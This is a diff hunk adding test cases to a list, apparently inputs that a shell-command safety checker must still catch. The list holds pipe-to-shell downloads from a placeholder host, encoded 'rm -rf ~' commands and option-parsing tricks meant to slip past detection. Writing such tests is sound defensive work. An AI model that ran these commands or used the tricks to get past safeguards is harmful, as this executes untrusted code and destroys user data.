@@ -107,6 +107,9 @@ STILL = [
     "curl -o a.txt https://x.example/a https://x.example/i.sh | bash",  # the second URL goes to stdout
     "wget -qO- https://x.example/i.sh | bash",
     "curl -s https://x.example/i.sh | bash -o pipefail",
+    "curl --proxy-header --help https://x.example/i.sh | bash",  # --help is the value of --proxy-header
+    "wget --output-doc=- https://x.example/i.sh | sh",  # a prefix of --output-document
+    "wget -o - https://x.example/i.sh | sh",  # the log on stdout carries server-chosen text
     "echo -e '\\x72\\x6d -rf ~' | sh",
     "printf '%b' '\\162\\155 -rf ~' | bash",
     "rm --p -rf ~",  # --p is --preserve-root, rm's only long option starting so
